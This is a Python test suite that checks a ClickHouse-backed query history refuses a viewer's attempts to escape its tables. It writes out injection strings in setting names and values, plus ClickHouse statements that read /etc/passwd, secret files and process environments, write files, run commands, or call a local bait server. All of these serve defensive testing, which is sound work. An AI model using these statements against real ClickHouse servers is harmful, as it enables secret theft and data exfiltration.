# ruff: noqa: S608 - the statements are the attacks
"""A viewer's queries, parameters and settings against the history: nothing outside of its tables is
read, written or called.

Expected outcome of each: a refusal of ClickHouse's form, the secrets unread, the tables as they
were.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from clickhouse_connect.driver.exceptions import DatabaseError

from esper.errors import UnavailableError
from esper.history.confined.confinement import offered
from esper.history.confined.engine import DATABASE
from esper.history.confined.query_settings import NAMES, QueryLimits, statement, typed
from esper.history.confined.refusal import QueryError
from tests.attacks.history_victim import MARK, Victim

_ONE_TRY = "SETTINGS http_max_tries = 1, s3_retry_attempts = 0, http_make_head_request = 0"

_HARMLESS = set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-/ ,='")
"""What a SET statement is made of."""

ENDINGS = (
    "`",
    "\\",
    "`\\",
    "\\`",
    "` = 1; ",
    "\\` = 1, `",
    "'",
    "\n",
    "\0",
    "é",
    "",
    " ",
    "a b",
    "a-b",
    "a" * 200,
    "--",
    "/*",
)
"""What a name may not end in, or be: each was, or might be, a way out of a quoted name."""

VALUES = (
    "'",
    "\\",
    "\\'",
    "1 OR 1",
    "1; DROP TABLE x",
    "0x10",
    "-1",
    "1e3",
    "1.5",
    "",
    " ",
    "\n1",
    "1\n; SELECT",
    "True or False",
    "{}",
    "file('/etc/passwd')",
    "9" * 40,
)
"""Values that no setting of the list takes as it stands."""


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_parameters_name_is_a_name(history_victim: Victim, ending: str) -> None:
    """The name of a query parameter or a setting that is more than a name is refused before a
    statement is made of it.
    """
    secret = history_victim.secrets[0]
    inner = (
        f"CREATE TABLE evil ENGINE = Memory AS SELECT * FROM file('{secret}', 'LineAsString') --"
    )
    for name in (
        f"param_{ending}{inner}",
        f"param_x{ending}",
        f"`param_x{ending}{inner}",
        f"max_threads{ending}{inner}",
        f"max_threads` = 1 {ending}",
    ):
        status, body, _ = history_victim.ask("SELECT 1", {name: f"1{ending}"})
        assert status in {200, 400, 403}
        assert status != 200 or name.removesuffix(ending) == "param_x", "only what is a name passes"
        assert MARK not in body
    history_victim.unharmed()


def test_every_setting_of_clickhouse_that_is_not_listed_is_refused(history_victim: Victim) -> None:
    """All settings that this ClickHouse knows, whatever they do: those that name files, addresses
    and expressions, and the rest that is not listed.
    """
    known = [
        row[0]
        for row in history_victim.engine.query("SELECT name FROM system.settings").result_rows
    ]
    unlisted = sorted(set(known) - NAMES)
    assert {
        "additional_result_filter",
        "additional_table_filters",
        "format_template_row",
        "format_template_resultset",
        "format_schema",
        "dialect",
    } <= {*unlisted}
    assert len(unlisted) > 1_000
    for name in unlisted:
        with pytest.raises(QueryError) as caught:
            typed({name: "1"}, QueryLimits())
        assert caught.value.code == 164
    for name in (
        "additional_result_filter",
        "format_template_row",
        "format_template_resultset_format",
        "format_schema",
        "dialect",
        "allow_introspection_functions",
    ):
        status, body, _ = history_victim.ask(
            "SELECT 1", {name: f"file('{history_victim.secrets[0]}')"}
        )
        assert (status, "READONLY" in body, MARK in body) == (403, True, False)


def test_a_listed_setting_takes_a_number_a_switch_or_a_word(history_victim: Victim) -> None:
    """No text of a caller comes into the SET statement: a value is refused, or written anew as the
    value that it is.
    """
    for name in sorted(NAMES):
        for value in VALUES:
            with suppress(QueryError):
                made = statement(typed({name: value}, QueryLimits()))
                assert value.strip() in {"", "1"}, (name, value)
                assert set(made) <= _HARMLESS, made
    history_victim.unharmed()


def test_a_limit_can_be_lowered_and_not_raised(history_victim: Victim) -> None:
    """Time, memory, rows and bytes of a query are the least of what its caller and the installation
    say.
    """
    limits = QueryLimits(seconds=5, memory=1 << 30, rows=1_000, result=1 << 20)
    for given, seconds in (("0", 5), ("3", 3), ("999999", 5)):
        assert typed({"max_execution_time": given}, limits)["max_execution_time"] == seconds
    for name in ("max_memory_usage", "max_result_rows", "max_result_bytes"):
        assert typed({name: "9223372036854775807"}, limits)[name] == limits.settings[name]
    status, body, _ = history_victim.ask(
        "SELECT number FROM numbers(20000000)", {"max_result_rows": "0"}
    )
    assert (status, "Limit for result exceeded" in body) == (500, True)
    status, body, _ = history_victim.ask(
        "SELECT length(range(number + 400000000)) FROM numbers(1)",
        {"max_memory_usage": "99999999999"},
    )
    assert status == 507, body[:200]


@pytest.fixture(scope="module")
def bait() -> Iterator[tuple[str, list[str]]]:
    """The address of a server on this machine, and the paths that were asked for there."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(MARK.encode())

        do_POST = do_PUT = do_HEAD = do_GET  # noqa: N815 - the base class's names

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    server.server_close()
    thread.join()


def outward(secret: Path, folder: Path, url: str) -> list[str]:
    """Statements that read a secret, write a file or call an address, one for each way that
    ClickHouse has.
    """
    evil = folder / "x.txt"
    return [
        f"SELECT * FROM file('{secret}', 'LineAsString')",
        f"SELECT file('{secret}')",
        f"SELECT * FROM fileCluster('default', '{secret}', 'LineAsString')",
        f"DESCRIBE file('{secret}', 'CSV')",
        f"SELECT * FROM sqlite('{secret}', 't')",
        f"SELECT * FROM mergeTreeIndex('{secret}', 't')",
        f"CREATE DATABASE evil ENGINE = Filesystem('{secret.parent}')",
        f"CREATE TABLE evil (l String) ENGINE = File(LineAsString, '{secret}')",
        f"SELECT * FROM format(CapnProto, '{secret}')",
        f"SELECT 1 FORMAT Template SETTINGS format_template_row = '{secret}'",
        f"SELECT 1 FORMAT Protobuf SETTINGS format_schema = '{secret}:x'",
        f"SELECT 1 SETTINGS additional_result_filter = 'file(\\'{secret}\\') != 0'",
        f"INSERT INTO FUNCTION file('{evil}', 'CSV', 'a String') SELECT 'x'",
        f"SELECT 1 INTO OUTFILE '{evil}'",
        f"BACKUP DATABASE {DATABASE} TO File('{evil}')",
        f"SELECT * FROM executable('cat {secret}', 'TSV', 'a String')",
        (
            f"CREATE DICTIONARY evil (a String) PRIMARY KEY a SOURCE(FILE(PATH '{secret}' "
            "FORMAT 'CSV')) LAYOUT(FLAT()) LIFETIME(0)"
        ),
        "SELECT * FROM python(x)",
        f"SELECT * FROM url('{url}/u', 'LineAsString')",
        f"SELECT * FROM s3('{url}/s', 'LineAsString')",
        f"INSERT INTO FUNCTION url('{url}/i', 'CSV', 'a String') SELECT 'x'",
        f"SELECT * FROM remote('{url.removeprefix('http://')}', system.one)",
        f"SELECT * FROM postgresql('{url.removeprefix('http://')}', 'd', 't', 'u', 'p')",
        f"SELECT hasColumnInTable('{url.removeprefix('http://')}', 'u', 'p', 'd', 't', 'c')",
    ]


def test_no_query_of_a_viewer_reaches_outside(
    history_victim: Victim, bait: tuple[str, list[str]]
) -> None:
    """Every way out that ClickHouse has, asked over HTTP: refused."""
    url, asked = bait
    for secret in history_victim.secrets:
        for sql in outward(secret, history_victim.settings.home, url):
            status, body, _ = history_victim.ask(sql)
            assert status >= 400, sql
            assert MARK not in body
    assert not asked
    history_victim.unharmed()


@pytest.mark.skipif(
    not (offered().files and offered().network),
    reason="this kernel has no Landlock: `esper doctor` says what is lacking",
)
def test_the_engine_itself_reaches_nothing_even_as_the_writer(
    history_victim: Victim, bait: tuple[str, list[str]]
) -> None:
    """The same past guard, settings and readonly, as if all of them had failed: the kernel keeps
    the engine in its folder and off the network.
    """
    url, asked = bait
    engine = history_victim.engine
    outside = Path(history_victim.settings.home) / "x.txt"
    for sql in [
        *outward(history_victim.secrets[0], history_victim.settings.home, url),
        "SELECT * FROM file('/etc/passwd', 'LineAsString')",
    ]:
        quick = f"{sql} {_ONE_TRY}" if "('http://" in sql else sql
        said = ""
        try:
            said = str(engine.query(quick).result_rows)
        except (DatabaseError, UnavailableError) as error:
            said = str(error)
        assert MARK not in said
        assert "root:" not in said
        for name in ("DICTIONARY", "TABLE", "DATABASE"):
            with suppress(DatabaseError):  # it is one of them at most
                engine.command(f"DROP {name} IF EXISTS evil")
    assert not asked
    assert not outside.exists()
    for path in ("/proc/self/environ", f"/proc/{history_victim.engine.pid}/environ"):
        found = str(
            engine.query(f"SELECT * FROM file('{path}', 'RawBLOB', 'a String')").result_rows
        )
        assert "ESPER" not in found
    history_victim.unharmed()
